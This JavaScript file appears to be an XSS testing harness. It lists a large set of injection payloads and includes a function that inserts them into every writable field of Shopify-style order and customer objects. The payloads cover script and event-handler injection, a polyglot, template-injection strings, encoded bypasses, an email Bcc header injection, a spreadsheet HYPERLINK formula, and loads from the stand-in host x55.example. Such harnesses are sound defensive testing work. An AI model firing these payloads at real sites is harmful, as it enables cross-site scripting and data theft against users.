// A hundred texts that run code wherever somebody forgets to encode one. Each that
// gets through calls alert, loads from x55.example, or leaves an element behind
// that bears data-x55.
const mark = 'data-x55=1';
const bodies = [
  `<script ${mark}>alert(1)</script>`,
  `<img ${mark} src=x onerror=alert(1)>`,
  `<svg ${mark} onload=alert(1)>`,
  `<details ${mark} open ontoggle=alert(1)>`,
  `<iframe ${mark} srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<a ${mark} href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>`,
];
const escapes = ['', '">', `'>`, '</title>', '</textarea>', '</script>', '-->', ']]>', '</style>', '&quot;&gt;'];

const others = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e`,
  `"onclick=alert(1) ${mark} x="`,
  `' onmouseover=alert(1) ${mark} style='position:fixed;inset:0`,
  `"autofocus onfocus=alert(1) ${mark} x="`,
  `\` onpointerover=alert(1) ${mark}`,
  `javascript:alert(1)`,
  `JaVaScRiPt:alert(1)`,
  `java\tscript:alert(1)`,
  `data:text/html,<script>alert(1)</script>`,
  `vbscript:msgbox(1)`,
  `//x55.example/a.js`,
  `https://x55.example/pixel.gif`,
  `<link ${mark} rel=stylesheet href=//x55.example/a.css>`,
  `<style ${mark}>@import "//x55.example/b.css";</style>`,
  `<base ${mark} href=//x55.example/>`,
  `<meta ${mark} http-equiv=refresh content="0;url=//x55.example/">`,
  `<object ${mark} data=//x55.example/o></object>`,
  `<embed ${mark} src=//x55.example/e>`,
  `<form ${mark} action=//x55.example/><input type=submit id=x autofocus></form>`,
  `<video ${mark}><source onerror=alert(1)></video>`,
  `<math ${mark}><mtext></table><mglyph><style><img src=x onerror=alert(1)>`,
  `<svg ${mark}><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<body ${mark} onload=alert(1)>`,
  `<input ${mark} onfocus=alert(1) autofocus>`,
  `<marquee ${mark} onstart=alert(1)>`,
  `<template ${mark}><script>alert(1)</script></template>`,
  `{{constructor.constructor('alert(1)')()}}`,
  '${alert(1)}',
  `{{ 'x' | append: "<script ${mark}>alert(1)</script>" }}`,
  `{% raw %}{{ "<img ${mark} src=x onerror=alert(1)>" }}{% endraw %}`,
  `{% include 'secrets' %}{{ settings.sender_name }}`,
  `\u2028alert(1)\u2029`,
  `\u202e<gnp.x=crs gmi>`,
  `%3Cscript%3Ealert(1)%3C/script%3E`,
  `&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;`,
  `\\u003cscript\\u003ealert(1)\\u003c/script\\u003e`,
  `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
  `=HYPERLINK("https://x55.example","x")`,
  `x\r\nBcc: x55@x55.example\r\n\r\n<script ${mark}>alert(1)</script>`,
  `\u0000<script ${mark}>alert(1)</script>`.slice(1),
];

export const payloads = [...escapes.flatMap((e) => bodies.map((b) => e + b)), ...others];

/** Leaves that Shopify does not let anybody write freely. */
const fixed =
  /^(id|.*_id|currency.*|.*_currency|.*status|.*_at|type|value_type|target_type|target_selection|allocation_method|customer_locale|locale|source_name|.*email|state|kind|token|.*_code|country|gateway|processing_method|source_identifier|landing_site.*|referring_site|.*_url|payment_gateway_names|.*_token|amount|.*price.*|.*total.*|value|current_.*|weight.*|grams|fulfillment_service|inventory.*|taxes.*)$/;
const shaped = /^(-?\d+(\.\d+)?|gid:.*|\d{4}-\d\d-\d\d.*|https?:.*|[A-Z]{2,3})$/;

/** A copy of the object with a payload in every text that somebody can write; covered gets the fields' names. */
export function poisoned(object, next, covered, path = '') {
  if (Array.isArray(object)) return object.map((one) => poisoned(one, next, covered, path));
  if (object === null || typeof object !== 'object') return object;
  const out = {};
  for (const [key, value] of Object.entries(object)) {
    const at = path ? `${path}.${key}` : key;
    const pair = key === 'value' && 'name' in object; // a note attribute, a property
    if ((typeof value === 'string' || value === null) && (pair || (!fixed.test(key) && !shaped.test(value ?? '')))) {
      if (value === null && !/note|title|name|company|address|city|phone|tags|message/.test(key)) out[key] = value;
      else {
        out[key] = next();
        covered.add(at);
      }
    } else out[key] = poisoned(value, next, covered, at);
  }
  return out;
}
